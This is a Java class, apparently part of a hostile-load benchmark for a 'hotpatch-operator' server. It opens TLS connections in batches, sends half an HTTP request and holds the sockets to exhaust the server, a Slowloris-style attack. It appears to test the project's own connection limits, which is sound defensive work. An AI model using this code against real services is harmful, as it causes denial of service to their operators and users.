package io.hotpatch.bench.hostile;

import java.io.IOException;
import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.SSLSocket;

/**
 * Connections that finish the TLS handshake, send the start of a request and never its end: each
 * holds a socket, a TLS engine and buffers in the server until the server closes it.
 */
public final class ConnectionFlood implements AutoCloseable {
  private static final byte[] HALF_A_REQUEST =
      ("GET /channel/v1/namespaces/shop/pods/checkout-0/desired HTTP/1.1\r\n"
              + "Host: hotpatch-operator\r\nUser-Agent: slow\r\n")
          .getBytes(StandardCharsets.US_ASCII);
  private static final int BATCH = 500;

  private final RawHttps https;
  private final InetAddress from;
  private final ExecutorService pool;
  private final List<SSLSocket> open = new ArrayList<>();
  private final AtomicInteger closedByServer = new AtomicInteger();
  private final AtomicInteger failed = new AtomicInteger();

  public ConnectionFlood(RawHttps https, InetAddress from, int parallel) {
    this.https = https;
    this.from = from;
    this.pool = Executors.newFixedThreadPool(parallel);
  }

  /**
   * Opens {@code connections}, a batch at a time, closing our end of those the server closed after
   * each batch.
   */
  public void open(int connections) throws InterruptedException {
    for (int batch = 0; batch < connections; batch += BATCH) {
      List<Future<?>> opening = new ArrayList<>();
      for (int i = batch; i < Math.min(connections, batch + BATCH); i++) {
        opening.add(pool.submit(this::openOne));
      }
      for (Future<?> future : opening) {
        try {
          future.get();
        } catch (java.util.concurrent.ExecutionException e) {
          failed.incrementAndGet();
        }
      }
      sweep();
    }
  }

  /**
   * Closes our end of every connection the server closed; returns how many the server still holds.
   */
  public int sweep() throws InterruptedException {
    List<SSLSocket> snapshot;
    synchronized (open) {
      snapshot = new ArrayList<>(open);
    }
    List<Future<Boolean>> checks = new ArrayList<>();
    for (SSLSocket socket : snapshot) {
      checks.add(pool.submit(() -> closedByServer(socket)));
    }
    List<SSLSocket> closed = new ArrayList<>();
    for (int i = 0; i < snapshot.size(); i++) {
      try {
        if (checks.get(i).get()) {
          closed.add(snapshot.get(i));
        }
      } catch (java.util.concurrent.ExecutionException e) {
        closed.add(snapshot.get(i));
      }
    }
    closedByServer.addAndGet(closed.size());
    synchronized (open) {
      open.removeAll(closed);
      return open.size();
    }
  }

  /** Connections the server closed so far (refused at the cap, or closed for idling). */
  public int closedByServer() {
    return closedByServer.get();
  }

  /** Connections that failed before their half request was sent (refused connect or handshake). */
  public int failed() {
    return failed.get();
  }

  private void openOne() {
    try {
      SSLSocket socket = https.connect(from);
      socket.getOutputStream().write(HALF_A_REQUEST);
      socket.getOutputStream().flush();
      synchronized (open) {
        open.add(socket);
      }
    } catch (IOException e) {
      failed.incrementAndGet();
    }
  }

  private static boolean closedByServer(SSLSocket socket) {
    try {
      socket.setSoTimeout(1);
      if (socket.getInputStream().read() < 0) {
        socket.close();
        return true;
      }
      return false; // an answer would be a bug in the attack; the connection is still open
    } catch (SocketTimeoutException stillOpen) {
      return false;
    } catch (IOException closed) {
      try {
        socket.close();
      } catch (IOException ignored) {
        // closed already
      }
      return true;
    }
  }

  @Override
  public void close() {
    pool.shutdownNow();
    synchronized (open) {
      for (SSLSocket socket : open) {
        try {
          socket.close();
        } catch (IOException ignored) {
          // the attack ends either way
        }
      }
      open.clear();
    }
  }
}
